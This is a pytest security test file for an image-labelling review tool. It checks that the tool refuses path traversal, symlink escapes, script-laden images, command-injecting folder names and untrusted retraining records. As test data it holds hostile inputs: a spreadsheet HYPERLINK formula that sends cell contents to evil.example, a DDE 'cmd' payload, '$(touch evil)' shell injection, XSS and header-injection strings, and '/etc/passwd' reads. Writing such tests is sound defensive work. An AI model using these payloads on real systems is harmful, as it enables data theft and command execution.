"""Hostile files: what a dataset's names lead to, what spreadsheets are given, what a run from elsewhere can start."""

import csv
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from starlette.testclient import TestClient

from onepair.errors import DataError
from onepair.finding.suggestions import Suggestions, read_suggestions, write_suggestions
from onepair.inference.prediction import CsvWriter, Prediction
from onepair.review.answers import Answer
from onepair.review.completion import write_completed
from onepair.review.photos import SMALL, Pictures
from onepair.review.queue import open_run
from onepair.review.retraining import Retraining, planned_commands
from onepair.runs.folder import RunFolder
from tests.review.audits import audit_run, complete_all, open_audit
from tests.review.runs import CLASSES, open_app, open_session, small_run, write_run
from tests.review.sites import Site
from tests.review.test_pictures import save, table_of

FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "'=1", '=HYPERLINK("http://evil.example?"&A1)')
POSIX = pytest.mark.skipif(os.name == "nt", reason="Windows has no pipes in folders and no umask")


# Names of images


@pytest.fixture
def outside(tmp_path):
    """Beside the dataset: an image that is nobody's business, and a text."""
    save(tmp_path / "private.png")
    (tmp_path / "private.txt").write_text("a secret")
    (tmp_path / "data").mkdir()
    return tmp_path


def refused(outside, file):
    pictures = Pictures(table_of(outside / "data", file), cache=outside / "cache")
    for call in (lambda: pictures.frame(0), lambda: pictures.picture(0, SMALL)):
        with pytest.raises(DataError) as error:
            call()
        assert "a secret" not in str(error.value)


@pytest.mark.parametrize(
    "file",
    ["../private.txt", "{root}/private.txt", "/etc/passwd", "/dev/zero", "/proc/self/stat", ".", "..", "", "/", "a\0b",
     "../private.png\0.jpg", "x" * 5000, "a/" * 3000, "file:///etc/passwd", "http://evil.example/a.png", "gone.png"],
)  # fmt: skip
def test_what_is_no_image_is_never_sent(outside, file):
    refused(outside, file.format(root=outside))


@POSIX
@pytest.mark.parametrize("target", ["../private.png", "{root}/private.png", "loop.png", "chain", "/etc/passwd"])
def test_links_out_of_the_dataset_and_in_circles(outside, target):
    (outside / "data" / "loop.png").symlink_to(target.format(root=outside))
    (outside / "data" / "chain").symlink_to("../private.png")
    refused(outside, "loop.png")


@POSIX
def test_folders_that_are_links_and_steps_through_them(outside):
    (outside / "data" / "album").symlink_to(outside)
    for file in ("album/private.png", "./album/../album/private.png", "album//private.png"):
        refused(outside, file)


@POSIX
def test_nobody_waits_for_a_pipe(outside):
    os.mkfifo(outside / "data" / "pipe.png")
    refused(outside, "pipe.png")


def test_pages_that_are_no_pixels(outside):
    for name, content in (("a.svg", "<svg onload='x()'/>"), ("a.png", "<script>x()</script>"), ("a.pdf", "%PDF-1.4")):
        (outside / "data" / name).write_text(content)
        refused(outside, name)


def test_an_image_with_a_script_in_it_is_sent_without(outside):
    comment = b"<script>window.hacked = 1</script>"
    Image.new("RGB", (90, 80)).save(outside / "data" / "a.jpg", comment=comment)
    with (outside / "data" / "a.jpg").open("ab") as file:
        file.write(comment)
    sent = Pictures(table_of(outside / "data", "a.jpg"), cache=outside / "cache").picture(0, SMALL)
    assert (sent.media_type, comment in sent.content) == ("image/jpeg", False)


def test_an_absolute_name_in_the_table_is_an_image_if_it_decodes(outside):
    pictures = Pictures(table_of(outside / "data", str(outside / "private.png")), cache=outside / "cache")
    assert pictures.picture(0, SMALL).media_type == "image/jpeg"


@POSIX
def test_what_is_kept_of_photos_is_for_their_owner_alone(outside):
    save(outside / "data" / "a.png")
    Pictures(table_of(outside / "data", "a.png"), cache=outside / "new" / "cache").picture(0, SMALL)
    assert stat.S_IMODE((outside / "new" / "cache").stat().st_mode) == 0o700


# Cells that a spreadsheet would compute


def cells_of(path):
    with path.open(newline="", encoding="utf-8") as text:
        return [cell for line in csv.reader(text) for cell in line]


def is_plain(cell):
    """A number, or a text that no spreadsheet takes for a formula."""
    return not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_suggestions_are_no_formulas_and_read_back_as_they_were(tmp_path):
    count = len(FORMULAS)
    found = Suggestions(np.arange(count), np.arange(count), np.linspace(0.9, 0.5, count), np.array(["missing"] * count))
    write_suggestions(tmp_path / "suggestions.csv", found, FORMULAS, FORMULAS)
    assert all(map(is_plain, cells_of(tmp_path / "suggestions.csv")))
    observed = np.full((count, count), -1, np.int8)
    again = read_suggestions(tmp_path / "suggestions.csv", observed, FORMULAS, FORMULAS)
    np.testing.assert_array_equal(again.row, found.row)
    np.testing.assert_array_equal(again.label, found.label)


def test_predictions_are_no_formulas(tmp_path):
    with (tmp_path / "predictions.csv").open("wb") as file:
        found = [Prediction(name, (name, "b"), dict.fromkeys(FORMULAS, 0.5)) for name in FORMULAS]
        CsvWriter(file, FORMULAS).write(found)
    assert all(map(is_plain, cells_of(tmp_path / "predictions.csv")))


def test_what_was_skipped_is_no_formula(tmp_path):
    RunFolder(tmp_path).write_skipped([(name, name, name) for name in FORMULAS])
    assert all(map(is_plain, cells_of(tmp_path / "skipped.csv")))


def test_completed_labels_and_decisions_are_no_formulas(run, tmp_path):
    app, session = open_app(run, name="=cmd|' /C calc'!A0")
    site, cell = Site(TestClient(app), session), session.suggestion(1)
    site.answer(cell, "yes")
    for name in ("=1+1", "-2", "@x"):
        site.post("/class", name=name, number=1)
    assert session.find(cell.file, "=1+1").answer == "yes"
    write_completed(session.run, session.store.entries(), tmp_path / "out.csv", added=session.store.classes())
    for file in ("out.csv", "out_decisions.csv"):
        assert all(map(is_plain, cells_of(tmp_path / file)))
    assert "'=cmd|' /C calc'!A0" in cells_of(tmp_path / "out_decisions.csv")


def test_audited_labels_are_no_formulas(tmp_path):
    names = ("=1+1", "-x", "+y", "@z")
    session = open_audit(audit_run(tmp_path / "audit", names=names))
    complete_all(session)
    cells = cells_of(session.run.path / "audit" / "audited.csv")
    assert {f"'{name}" for name in names} <= set(cells)
    assert all(map(is_plain, cells))


# Training again: what is started, and by whose word


@pytest.mark.parametrize("name", ["--help", "-x\n$(touch evil); touch evil"])
def test_folders_with_names_like_options_are_folders(tmp_path, monkeypatch, name):
    """The words of the first command, as a process of its own: it reads the run and writes the table of labels."""
    monkeypatch.chdir(tmp_path)
    small_run(tmp_path).rename(tmp_path / name)
    session = open_session(Path(name))
    session.record([Answer(session.suggestion(1).file, session.suggestion(1).label, "yes", 0)], who="Ann")
    commands = planned_commands(open_run(Path(name)), Path(f"{name}-2"))
    options = {word for each in commands for word in each.words[1:] if word.startswith("-")}
    assert options == {"--as", "--out", "--config", "--set", "--folds"}
    code = "from onepair.cli.main import main; main()"
    done = subprocess.run([sys.executable, "-c", code, *commands[0].words], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / f"{name}-2-labels.csv").exists()
    assert not (tmp_path / "evil").exists()


def record(folder, **changes):
    """A training that was stopped, as somebody else's folder may bring it."""
    content = {"run": str(folder.with_name("run-2")), "newest": 1, "commands": [["Training", ["export", "evil"]]]}
    (folder / "finding" / "retraining.json").write_text(json.dumps({**content, **changes}))


def test_commands_of_a_record_are_never_run(run, monkeypatch):
    started = []
    session = open_session(run)
    again = Retraining(session.run, session.store)
    monkeypatch.setattr(again, "_execute", lambda words, log: started.append(words) or 0)
    record(run)
    again.resume()
    again._thread.join()
    assert started == [each.words for each in planned_commands(session.run, run.with_name("run-2"))]


@pytest.mark.parametrize(
    "changes",
    [
        *(
            {"run": name}
            for name in ("", "..", "/", "a\0b", "/etc/run-of-others", "../../other", "run", "run-2-labels")
        ),
        {"newest": "x"},
    ],
)
def test_records_about_another_folder_are_none(run, changes):
    session = open_session(run)
    record(run, **changes)
    again = Retraining(session.run, session.store)
    assert again.progress() is None
    again.resume()
    assert again._thread is None


def test_a_log_is_only_text_on_the_page(run):
    record(run)
    (run / "finding" / "retraining.log").write_text("onepair: <script>x()</script>\n")
    app, _ = open_app(run)
    text = TestClient(app).get("/training").text
    assert "<script>x()" not in text
    assert "&lt;script&gt;x()" in text


@pytest.mark.parametrize("name", ["%00", "%E2%80%AE", "%E2%80%8B", "split", "%20%09", "%0A", "File"])
def test_classes_that_cannot_be_added(run, name):
    app, session = open_app(run)
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    page = TestClient(app).post("/class", content=f"name={name}", headers=form)
    assert page.status_code in (200, 422)
    assert session.store.classes() == []


@pytest.mark.parametrize("name", ["a\nb", "a\r\nSet-Cookie: b", "--help", "../../etc", "x" * 5000, 'a\tb,c"d'])
def test_classes_with_odd_names_stay_on_one_line_and_come_back(run, tmp_path, name):
    app, session = open_app(run)
    Site(TestClient(app), session).post("/class", name=name, number=1)
    (added,) = session.store.classes()
    assert added.isprintable()
    assert len(added) <= 60
    write_completed(session.run, session.store.entries(), tmp_path / "out.csv", added=[added])
    again = open_run(write_run(tmp_path / "again", tmp_path / "out.csv"))
    assert again.table.classes == (*CLASSES, added)


# Who may change what is written


@POSIX
def test_nothing_that_is_written_can_be_changed_by_everybody(run, tmp_path):
    code = "import os; os.umask(0); from onepair.cli.main import main; main()"
    session = open_session(run)
    session.record([Answer(session.suggestion(1).file, session.suggestion(1).label, "yes", 0)], who="Ann")
    out = tmp_path / "out"
    out.mkdir(mode=0o755)
    words = ["labels", str(run), "--out", str(out / "completed.csv")]
    subprocess.run([sys.executable, "-c", code, *words], check=True, capture_output=True)
    modes = {file.name: stat.S_IMODE(file.stat().st_mode) for file in out.iterdir()}
    assert set(modes) == {"completed.csv", "completed_decisions.csv"}
    assert not any(mode & stat.S_IWOTH for mode in modes.values())
